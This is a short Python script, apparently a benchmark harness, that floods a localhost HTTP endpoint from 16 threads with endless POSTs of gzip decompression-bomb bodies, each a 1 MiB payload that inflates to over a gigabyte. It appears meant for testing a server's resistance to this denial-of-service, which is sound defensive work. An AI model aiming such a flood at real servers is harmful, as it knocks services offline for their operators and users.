"""Sends compressed bodies without end, from another address: python -m bench.attacker PORT PATH."""

import socket
import sys
import threading
import zlib
from contextlib import suppress
from typing import Final

CONNECTIONS: Final = 16
SOURCE: Final = "127.0.0.2"
MIB: Final = 2**20


def main() -> None:
    port, path = int(sys.argv[1]), sys.argv[2]
    made = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = (b"".join(made.compress(bytes(MIB)) for _ in range(1100)) + made.flush())[:MIB]
    head = (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Encoding: gzip\r\n"
        f"Content-Length: {MIB}\r\n\r\n"
    )

    def attack() -> None:
        while True:
            with (
                suppress(OSError),
                socket.create_connection(("127.0.0.1", port), 5, (SOURCE, 0)) as caller,
            ):
                caller.sendall(head.encode() + body)
                while caller.recv(MIB):
                    pass

    for _ in range(CONNECTIONS):
        threading.Thread(target=attack, daemon=True).start()
    print("attacks", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main()
